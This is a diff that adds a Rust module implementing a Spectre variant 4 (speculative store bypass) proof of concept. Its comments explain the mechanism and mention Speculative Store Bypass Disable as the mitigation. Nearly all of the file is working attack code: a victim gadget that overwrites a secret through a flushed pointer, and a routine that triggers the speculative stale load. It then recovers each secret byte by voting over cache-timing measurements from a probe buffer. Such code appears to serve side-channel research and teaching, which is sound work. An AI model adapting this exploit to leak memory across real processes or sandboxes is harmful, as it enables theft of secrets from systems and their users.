@@ -0,0 +1,116 @@
+//! Spectre variant 4, speculative store bypass. A load doesn't wait for
+//! older stores whose address isn't known yet, betting that they write
+//! somewhere else. When one of them turns out to write the loaded byte, the
+//! load is redone, but whatever ran on the stale value it read first has
+//! already left its trace in the cache.
+//!
+//! The victim here holds a secret, overwrites it through a pointer it has to
+//! fetch from memory, and loads the byte back, only using it if it isn't the
+//! value it just stored. Architecturally it never is, so only the stale
+//! secret is encoded. Speculative Store Bypass Disable makes the load wait
+//! and the attack leak nothing.
+
+use std::cell::RefCell;
+use std::io;
+
+use cache::flush;
+use channel::Channel;
+use covert::CovertChannel;
+use probe_buf::ProbeBuffer;
+use reader::{ByteGuess, TIMINGS_PER_GUESS};
+use receiver::Receiver;
+
+// attacks voted on per byte, each decoded from TIMINGS_PER_GUESS timings
+const ROUNDS: usize = 16;
+
+// what the victim overwrites the secret with, alternating between rounds.
+// the victim ignores the value it stored, so a secret equal to one of them
+// only leaks in the rounds that store the other
+const OVERWRITES: [u8; 2] = [0x00, 0xff];
+
+// the secret, and a pointer to it a full line away, so that flushing the
+// pointer to delay the store's address leaves the secret cached
+#[repr(C)]
+struct Victim {
+    secret_ptr: *mut u8,
+    _pad: [u8; 56],
+    secret: u8,
+}
+
+// the gadget: a store through a slow pointer, and a load the store should
+// forward to
+#[inline(never)]
+unsafe fn victim<C: CovertChannel>(victim: *const Victim, channel: &C, overwrite: u8) {
+    (&(*victim).secret_ptr as *const *mut u8)
+        .read_volatile()
+        .write_volatile(overwrite);
+    let value = (&(*victim).secret as *const u8).read_volatile();
+    if value != overwrite {
+        channel.encode(0, value)
+    }
+}
+
+/// Leaks bytes a victim has overwritten, by loading them past the store
+/// that overwrote them, receiving through a page per value probe buffer.
+pub struct StoreBypass {
+    receiver: Receiver,
+    victim: RefCell<Box<Victim>>,
+}
+
+impl StoreBypass {
+    /// Allocates the probe buffer and the victim, and calibrates the cache
+    /// hit threshold.
+    pub fn new() -> io::Result<StoreBypass> {
+        let channel = Channel::Page;
+        let probe_buf = ProbeBuffer::private(channel.buf_len(), false)?;
+        let receiver = Receiver::new(probe_buf, channel);
+        let mut victim = Box::new(Victim {
+            secret_ptr: 0 as *mut u8,
+            _pad: [0; 56],
+            secret: 0,
+        });
+        victim.secret_ptr = &mut victim.secret;
+        Ok(StoreBypass {
+            receiver,
+            victim: RefCell::new(victim),
+        })
+    }
+
+    /// The probe buffer the attack leaks through, and its calibration.
+    pub fn receiver(&self) -> &Receiver {
+        &self.receiver
+    }
+
+    /// Has the victim hold `secret`, overwrite it and load it back, and
+    /// returns what leaked of it along with how confident the guess is.
+    pub fn guess_byte(&self, secret: u8) -> ByteGuess {
+        let mut order = self.receiver.order();
+        let mut channel = self.receiver.channel(&mut order);
+        let mut victim_ref = self.victim.borrow_mut();
+        let victim_ptr: *mut Victim = &mut **victim_ref;
+        let secret_ptr = unsafe { &(*victim_ptr).secret_ptr as *const *mut u8 as *const u8 };
+
+        let mut hit_counts = [0usize; 256];
+        for round in 0..ROUNDS {
+            let overwrite = OVERWRITES[round % OVERWRITES.len()];
+            for _ in 0..TIMINGS_PER_GUESS {
+                unsafe {
+                    (*victim_ptr).secret = secret;
+                    channel.prepare(1);
+                    flush(secret_ptr);
+                    victim(victim_ptr, &channel, overwrite);
+                    channel.receive(1);
+                }
+            }
+            if let Some(byte) = channel.decode(1)[0] {
+                hit_counts[byte as usize] += 1
+            }
+        }
+        ByteGuess::from_hit_counts(&hit_counts, ROUNDS)
+    }
+
+    /// `guess_byte` for every byte of `secret`.
+    pub fn guess_range(&self, secret: &[u8]) -> Vec<ByteGuess> {
+        secret.iter().map(|&byte| self.guess_byte(byte)).collect()
+    }
+}